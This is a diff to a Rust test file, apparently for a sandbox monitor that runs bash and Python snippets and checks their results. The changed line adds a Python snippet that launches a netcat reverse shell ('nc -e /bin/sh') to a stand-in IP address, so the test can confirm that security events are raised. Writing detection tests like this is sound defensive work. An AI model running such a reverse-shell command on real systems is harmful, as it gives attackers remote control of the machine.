@@ -75,7 +75,7 @@ fn monitors_on_real_sandboxes() {
     assert_eq!(r.status, Status::Success, "{r:#?}");
     let r = run("ordinary-bash", "bash", "set -e\nfor i in 1 2 3; do echo $i; done | sort -r | head -n 1\nls / | wc -l >/dev/null\necho $(date +%Y) >/dev/null\n", &none);
     assert_eq!(r.status, Status::Success, "{r:#?}");
-    let r = run("guarded-subprocess", "python", "import subprocess\ntry:\n    subprocess.run(['/bin/true'])\nexcept Exception as e:\n    print(e)\n", &none);
+    let r = run("guarded-subprocess", "python", "import subprocess\nsubprocess.run(['/bin/true'])\ntry:\n    subprocess.run(['nc', '-e', '/bin/sh', '203.0.113.7', '4444'])\nexcept Exception as e:\n    print(e)\n", &none);
     assert!(!r.security_events.is_empty(), "{r:#?}");
     let r = run(
         "fork-bomb",
